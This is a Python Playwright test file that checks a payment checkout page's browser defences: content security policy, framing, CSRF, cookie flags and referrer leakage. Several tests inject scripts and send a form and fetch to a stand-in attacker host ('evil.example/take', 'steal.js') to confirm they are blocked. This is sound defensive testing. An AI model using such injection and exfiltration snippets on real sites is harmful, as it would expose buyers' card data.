"""What a real browser refuses on our pages, and what it keeps to itself."""

from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from tests.browser.conftest import DESKTOP
from tests.browser.shop import Shop
from tests.browser.test_buying import CHALLENGED, expect_title, press_pay, type_card

EVIL = "http://evil.example"
MERCHANT = "http://merchant.example"
VIOLATIONS = """() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation",
        (event) => window.violations.push(event.effectiveDirective));
}"""


@pytest.fixture
def stranger(chromium: Browser) -> Iterator[BrowserContext]:
    """A fresh browser whose console may complain: it meets what our pages refuse."""
    context = chromium.new_context(viewport=DESKTOP, locale="en-US")
    context.set_default_timeout(10_000)
    yield context
    context.close()


def site(context: BrowserContext, origin: str, body: str) -> None:
    """Another site, with this on its page."""

    def answer(route: Route) -> None:
        html = f"<!doctype html><html lang=en><title>Site</title><body>{body}</body>"
        route.fulfill(content_type="text/html", body=html)

    context.route(f"{origin}/**", answer)


def violations(page: Page) -> list[str]:
    """The directives that something on the page has run into."""
    found: list[str] = page.evaluate("() => window.violations")
    return found


def test_a_purchase_asks_nobody_else(shop: Shop, stranger: BrowserContext) -> None:
    """From the link to the receipt, by way of the bank, only our own server is asked."""
    page = stranger.new_page()
    asked: set[str] = set()
    page.on("request", lambda request: asked.add(urlsplit(request.url).netloc))
    page.goto(shop.link())
    type_card(page, CHALLENGED)
    press_pay(page)
    page.get_by_role("button", name="Approve").click()
    expect_title(page)

    assert asked == {urlsplit(shop.pages.app.public_url).netloc}
    assert shop.charges == [4900]


def test_no_script_gets_in(shop: Shop, stranger: BrowserContext) -> None:
    """Scripts that are written into the page, inline or from elsewhere, do not run."""
    site(stranger, EVIL, "")
    page = stranger.new_page()
    page.goto(shop.link())
    page.evaluate(VIOLATIONS)
    page.evaluate(
        """(evil) => {
            const inline = document.createElement("script");
            inline.textContent = "window.inside = true";
            const foreign = document.createElement("script");
            foreign.src = evil + "/steal.js";
            const image = document.createElement("img");
            image.setAttribute("onerror", "window.inside = true");
            image.src = evil + "/pixel.png";
            document.body.append(inline, foreign, image);
        }""",
        EVIL,
    )
    page.wait_for_function("() => window.violations.length >= 3")

    assert page.evaluate("() => window.inside") is None
    assert set(violations(page)) <= {
        "script-src-elem",
        "script-src-attr",
        "img-src",
    }
    assert {"script-src-elem", "img-src"} <= set(violations(page))


def test_what_is_typed_goes_nowhere_else(shop: Shop, stranger: BrowserContext) -> None:
    """A form that is turned elsewhere is not sent, and nothing is fetched from there."""
    site(stranger, EVIL, "")
    page = stranger.new_page()
    left: list[str] = []
    page.on("request", lambda request: left.append(request.url))
    page.goto(shop.link())
    page.evaluate(VIOLATIONS)
    type_card(page)
    page.evaluate(
        """(evil) => {
            const form = document.createElement("form");
            form.action = evil + "/take";
            form.method = "post";
            document.body.append(form);
            form.submit();
            fetch(evil + "/take", { mode: "no-cors" }).catch(() => undefined);
        }""",
        EVIL,
    )
    page.wait_for_function("() => window.violations.length >= 2")

    assert set(violations(page)) == {"form-action", "connect-src"}
    assert not any(url.startswith(EVIL) for url in left)


@pytest.mark.parametrize("where", ["checkout", "merchant's own server"])
def test_no_site_frames_the_page(shop: Shop, stranger: BrowserContext, where: str) -> None:
    """In a frame of another site, or of another page of the same server, nothing is shown."""
    link = shop.link()
    if where == "checkout":
        site(stranger, EVIL, f'<iframe src="{link}"></iframe>')
        outside = f"{EVIL}/"
    else:
        outside = f"{shop.pages.app.public_url}/merchant/"
    page = stranger.new_page()
    page.goto(outside)
    if where != "checkout":
        page.evaluate(
            "(link) => { const frame = document.createElement('iframe'); frame.src = link;"
            " document.body.append(frame); }",
            link,
        )
    page.wait_for_load_state("networkidle")
    framed = page.frames[1]

    assert framed.get_by_role("button").count() == 0
    assert "49.00" not in framed.content()


def test_another_site_presses_no_button(shop: Shop, stranger: BrowserContext) -> None:
    """A form of another site is refused, also in a browser that has our page open."""
    link = shop.link()
    ours = stranger.new_page()
    ours.goto(link)
    token = ours.locator("input[name=csrf]").first.input_value()
    fields = f'<input name="csrf" value="{token}"><input name="method" value="CARD">'
    form = f'<form method=post action="{link}/confirm">{fields}<button>Go</button></form>'
    site(stranger, EVIL, form)
    theirs = stranger.new_page()
    theirs.goto(f"{EVIL}/")
    with theirs.expect_navigation() as sent:
        theirs.get_by_role("button", name="Go").click()

    assert sent.value is not None
    assert sent.value.status == 403
    assert shop.charges == []
    tried = "select id from payment_attempts where tenant_id = $1"
    assert shop.run(shop.world.fetch(tried, shop.world.tenant_id)) == []


def test_cookies_are_for_the_server_alone(shop: Shop, stranger: BrowserContext) -> None:
    """No script reads a cookie, no other site sends one, no other session gets one."""
    page = stranger.new_page()
    link = shop.link()
    page.goto(link)
    type_card(page)
    press_pay(page)
    expect_title(page)
    path = urlsplit(link).path.rpartition("/")[0]
    kept = {cookie["name"]: cookie for cookie in stranger.cookies(link)}

    assert page.evaluate("() => document.cookie") == ""
    assert {"tallystick_form", "tallystick_paid"} <= kept.keys()
    for name in ("tallystick_form", "tallystick_paid"):
        assert (kept[name]["httpOnly"], kept[name]["sameSite"]) == (True, "Lax")
        assert kept[name]["path"] == path
    assert [one["name"] for one in stranger.cookies(shop.link())] == []


def test_the_link_is_told_to_nobody(shop: Shop, stranger: BrowserContext) -> None:
    """The merchant's page, where the buyer goes on to, is not told where it came from."""
    site(stranger, MERCHANT, "<h1>Welcome</h1>")
    told: list[str | None] = []
    stranger.on(
        "request",
        lambda request: (
            told.append(request.headers.get("referer"))
            if request.url.startswith(MERCHANT)
            else None
        ),
    )
    page = stranger.new_page()
    page.goto(shop.link(success_url=f"{MERCHANT}/done"))
    type_card(page)
    press_pay(page)
    expect(page.get_by_role("heading", name="Welcome")).to_be_visible()

    assert told == [None] * len(told)
    assert told
    assert page.evaluate("() => document.referrer") == ""


def test_another_browser_sees_no_receipt(shop: Shop, page: Page, plain_page: Page) -> None:
    """After the purchase the link shows another browser that it is done, and nothing else."""
    link = shop.link()
    page.goto(link)
    type_card(page)
    press_pay(page)
    expect_title(page)
    plain_page.goto(link)

    expect(plain_page.get_by_role("heading", level=1)).to_be_visible()
    for private in ("INV-", "4242", "€49.00", "Globex"):
        expect(plain_page.get_by_text(private)).to_have_count(0)
